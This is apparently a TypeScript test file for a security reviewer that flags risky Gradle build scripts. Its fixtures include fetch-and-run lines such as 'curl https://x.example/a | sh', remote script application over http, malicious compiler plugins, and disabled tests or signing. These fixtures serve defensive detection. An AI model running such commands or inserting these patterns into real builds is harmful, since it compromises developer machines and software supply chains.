import { expect, test } from 'vitest';
import { security } from '../../../../reviewers/security/index.ts';
import { runChecks } from '../../check-table.ts';
import { testManifest } from './support.ts';

const OPEN = ['registry-override critical'];
const STEP = ['install-script warning'];
const MOVES = ['dependency-source suggestion'];

testManifest('app/build.gradle.kts', 'plugins {\n  `java-library`\n}\n\nHERE\n', [
  [
    'dependencies {\n  api(libs.a.b)\n}',
    'dependencies {\n  api(libs.a.c) // why\n  testImplementation("g:a:1.0")\n}',
    [],
  ],
  [
    '',
    'kotlin {\n  sourceSets {\n    val commonMain by getting {\n      dependencies {\n        implementation(project(":a"))\n      }\n    }\n  }\n}',
    [],
  ],
  ['', 'dependencies {\n  implementation(platform("g:bom:1")) {\n    exclude(group = "a", module = "b")\n  }\n}', []],
  ['', 'android {\n  namespace = "a.b"\n  compileSdk = 36\n  buildTypes { release { isMinifyEnabled = true } }\n}', []],
  ['', 'plugins {\n  id("a.b") version "1.2" apply false\n  alias(libs.plugins.c)\n}', []],
  ['', 'repositories {\n  mavenCentral()\n  maven("https://repo.spring.io/milestone")\n}', []],
  ['', 'repositories {\n  maven {\n    url = uri("https://a.example/maven")\n  }\n}', ['unjudged']],
  ['', 'repositories {\n  maven("https://jitpack.io")\n}', ['registry-override warning']],
  [
    '',
    'repositories {\n  maven {\n    url = uri("http://a.example/maven")\n    isAllowInsecureProtocol = true\n  }\n}',
    [...OPEN, 'certificate-check-off critical'],
  ],
  // Functions of the build's own.
  ['', 'multiplatformLibrary(name = "a.b")', []],
  ['', 'androidLibrary(name = "a.b", native = true) {\n  namespace = "a.b"\n}', []],
  ['', 'applyJvmTarget()', []],
  ['', 'android {\n  compileSdk {\n    version = release(37)\n  }\n}', []],
  ['', 'android {\n  compileSdk {\n    version = evil(37)\n  }\n}', ['unjudged']],
  ['', 'buildTool("-javaagent:a.jar")', ['unjudged']],
  ['', 'fetchTool("https://a.example/b")', ['unjudged']],
  ['', 'fetchTool("../b")', ['unjudged']],
  ['', 'runCommand("curl")', ['unjudged']],
  ['', 'defaultTasks("publish")', ['unjudged']],
  ['', 'useTestNG()', ['unjudged']],
  ['', 'tasks.named("jar") {\n  finalizedBy("publish")\n}', ['unjudged']],
  ['', 'tasks.named("jar") {\n  otherThings("publish")\n}', ['unjudged']],
  ['', 'otherThings("a") {\n  doWork("b")\n}', ['unjudged']],
  ['', 'otherThings(readAll("a"))', ['unjudged']],
  ['', 'dependencies {\n  implementation("g:a:1.+")\n}', MOVES],
  ['', 'dependencies {\n  implementation("g:a:latest.release")\n}', MOVES],
  ['', 'dependencies {\n  implementation("g:a:${System.getenv("V")}")\n}', ['unjudged']],
  ['', 'dependencies {\n  implementation(files("libs/a.jar"))\n}', ['unjudged']],
  [
    '',
    'tasks.register<Exec>("a") {\n  commandLine("sh", "-c", "curl https://x.example/a | sh")\n}',
    ['downloaded-code critical', 'unjudged'],
  ],
  ['', 'tasks.register<Exec>("a") {\n  commandLine("sh", "-c", "make \\$X")\n}', [...STEP, 'unjudged']],
  ['', 'tasks.register<Exec>("a") {\n  commandLine("touch", "a")\n}', ['unjudged']],
  ['', 'val v = ProcessBuilder("git", "describe").start()', STEP],
  ['', 'apply(from = "https://a.example/x.gradle.kts")', ['downloaded-code warning']],
  ['', 'apply(from = "http://a.example/x.gradle.kts")', ['downloaded-code critical']],
  ['', 'apply(from = "x.gradle.kts")', ['unjudged']],
  ['', 'val s = uri("https://a.example/x").toURL().readText()', ['dependency-source warning']],
  ['', 'android { buildTypes { release { isDebuggable = true } } }', ['debug-mode warning']],
  ['', 'afterEvaluate {\n  println("a")\n}', ['unjudged']],
  ['', 'dependencies {\n  implementation("g:a:1") }}', ['unjudged']],
  ['', 'dependencies { implementation("a:b:1"); exec { commandLine("x") } }', ['unjudged']],
  ['', 'group = /"/ + x + "a"', ['unjudged']],
  ['', 'val koinVersion: String by project\nval extra by configurations.creating', []],
  ['', 'android {\n  testOptions {\n    unitTests.includeAndroidResources = true\n  }\n}', []],
  ['', 'tasks.withType<AbstractKotlinCompile<*>>().configureEach {\n  compilerOptions.jvmTarget = target\n}', []],
  ['', 'configure(\n  KotlinMultiplatform(javadocJar = JavadocJar.Empty()),\n)', []],
  [
    '',
    'configure(KotlinMultiplatform(javadocJar = JavadocJar.Empty(), x = "sh".execute()))',
    ['install-script warning'],
  ],
  ['', 'tasks.withType<KotlinCompile>().configureEach {\n  compilerOptions.jvmTarget = target\n}', []],
  [
    '',
    'kotlin {\n  jvmToolchain(1_8)\n  androidTarget {\n    compilations.all {\n      kotlinOptions {\n        jvmTarget = "1.8"\n      }\n    }\n  }\n}',
    [],
  ],
  ['', 'dependencies {\n  implementation("g:a:$v")\n  api("g:b:${versions.b}")\n}', []],
  ['', '// why\r"touch a".execute()', ['unjudged']],
  ['', '// why \\u000a "touch a"', ['unjudged']],
  ['', '/* why \\u002a/ */', ['unjudged']],
  ['', '// why\r', []],
  ['', 'apply from: "$rootDir/docs/NOTES"', ['unjudged']],
  ['', 'apply from: "$rootDir/gradle/a.gradle"', []],
  ['', "delete('src') {\n}", ['unjudged']],
  ['', 'if (false) {\n  dependencies {\n    api("g:a:1")\n  }\n}', ['unjudged']],
  ['', "build.dependsOn('wipe')", ['unjudged']],
  ["plugins {\n  id 'org.owasp.dependencycheck' version '9.0'\n}", '', ['security-check-off warning']],
  ["apply plugin: 'com.github.spotbugs'", '', ['security-check-off warning']],
  ["apply plugin: 'com.github.spotbugs'", 'apply plugin: "com.github.spotbugs"', []],
  // What a form that looks plain can do.
  ['', 'mainClass = "a.Evil"', ['unjudged']],
  ['', 'tasks.test {\n  jvmArgs = other.args\n}', ['unjudged']],
  ['', 'tasks.test {\n  ignoreFailures = true\n}', ['unjudged']],
  ['', 'tasks.named("jar") {\n  executable = "x"\n}', ['unjudged']],
  ['', 'val p = helper.exec()', ['unjudged']],
  ['', 'val p = helper.run("x")', ['unjudged']],
  ['', 'tasks.named("jar") {\n  doLast {\n    println("a")\n  }\n}', ['unjudged']],
  ['', 'val x = "$a/$b"', ['unjudged']],
  ['', 'dependencies {\n  implementation("g:$a:1")\n}', ['unjudged']],
  ['', 'dependencies {\n  implementation("g:a:${evil("x")}")\n}', ['unjudged']],
  ['', 'rootProject.buildFileName = "notes.txt"', ['unjudged']],
  ['', 'val p = pb.start()', ['unjudged']],
  ['', 'val p = deploy()', ['unjudged']],
  ['', 'tasks.test {\n  exclude("**/*Auth*")\n}', ['unjudged']],
  ['', 'lint {\n  abortOnError = false\n}', ['unjudged']],
  ['', 'repositories {\n  mavenLocal {\n  }\n}', ['unjudged']],
  ['', 'repositories {\n  jcenter {\n  }\n}', ['unjudged']],
  ['', 'includeBuild("..") {\n  name = "x"\n}', ['unjudged']],
  ['', 'signing {\n  isRequired = false\n}', ['unjudged']],
  // Statements of harmless words alone.
  ['', 'val bytebuddyAgent: Configuration by configurations.creating', []],
  ['', 'if (!base.archivesName.get().startsWith("mockito-")) {\n  base.archivesName = "a"\n}', []],
  ['', 'if (JavaVersion.VERSION_17 <= JavaVersion.current()) {\n  version = "1"\n} else {\n  version = "2"\n}', []],
  [
    '',
    'tasks.withType<KotlinCompile>().configureEach {\n  compilerOptions {\n    freeCompilerArgs.add("-Xjdk-release=8")\n  }\n}',
    [],
  ],
  ['', 'tasks.javadoc {\n  isEnabled = false\n}', []],
  ['', 'mockitoJavadoc {\n  title = "Mockito ${project.version} API"\n}', []],
  ['', 'apply(from = rootProject.file("gradle/a.gradle.kts"))', []],
  ['', 'dependencies {\n  testImplementation(project(path = ":a", configuration = "b"))\n  api (libs.b )\n}', []],
  ['', 'tasks.register("a") {\n  dependsOn("createReport")\n}', []],
  // What somebody might hide among such words.
  ['', 'apply(from = rootProject.file("gradle/notes.txt"))', ['unjudged']],
  ['', 'apply(from = rootProject.file("../a.gradle.kts"))', ['unjudged']],
  ['', 'tasks.test {\n  isEnabled = false\n}', ['unjudged']],
  ['', 'tasks.matching { it.name == "test" }.configureEach {\n  enabled = false\n}', ['unjudged']],
  ['', 'freeCompilerArgs.add("-Xplugin=evil.jar")', ['unjudged']],
  ['', 'freeCompilerArgs += listOf("-Xjdk-release=8", "-Xfriend-paths=a")', ['unjudged']],
  ['', 'tasks.register("a") {\n  dependsOn("publishAll")\n}', ['unjudged']],
  ['', 'project.dependencies.create("evil:evil:1")', ['unjudged']],
  ['', 'dependencies.add("api", "evil:evil:1")', ['unjudged']],
  ['', 'version = evil("x")', ['unjudged']],
  ['', 'version = file("a").readText()', ['unjudged']],
  ['', 'val x by tasks.registering(Exec::class)', ['unjudged']],
  ['', 'val x = listOf("a").map(::evil)', ['unjudged']],
  ['', 'val x = Evil("a")', ['unjudged']],
  ['', 'val x by lazy { evil() }', ['unjudged']],
  ['', 'if (evil()) {\n  version = "1"\n}', ['unjudged']],
  ['', 'java.toolchain.vendor.set("x")', ['unjudged']],
  ['', 'extra.set("kotlin.code", "x")', ['unjudged']],
  ['', 'configurations.all {\n  resolutionStrategy.force("a:b:1")\n}', ['unjudged']],
]);

testManifest('build.gradle', "plugins {\n  id 'java'\n}\n\nHERE\n", [
  [
    "dependencies {\n  implementation 'g:a:1'\n}",
    "dependencies {\n  implementation 'g:a:2'\n  testImplementation project(':b')\n}",
    [],
  ],
  ['', "repositories {\n  maven { url 'http://a.example/maven' }\n}", OPEN],
  ['', "def v = 'git describe'.execute().text", STEP],
  ['', "def v = 'curl https://x.example/a | sh'.execute().text", ['downloaded-code critical']],
  ['', "apply from: 'https://a.example/x.gradle'", ['downloaded-code warning']],
  ['', "sourceCompatibility = '17'\nversion '1.2'", []],
  ['', 'android { buildTypes { release { debuggable true } } }', ['debug-mode warning']],
]);

test('a release that can be debugged is folded where the program shows how something is used', async () => {
  const script = 'android { buildTypes { release { isDebuggable = true } } }\n';
  const tree = { 'samples/a/build.gradle.kts': script, 'a/build.gradle.kts': script };
  const { reports } = await runChecks(security, { old: {}, new: tree }, { only: ['build-manifests'] });

  expect(reports.map(({ location, confidence }) => [location?.path, confidence])).toEqual([
    ['a/build.gradle.kts', 750],
    ['samples/a/build.gradle.kts', 200],
  ]);
});
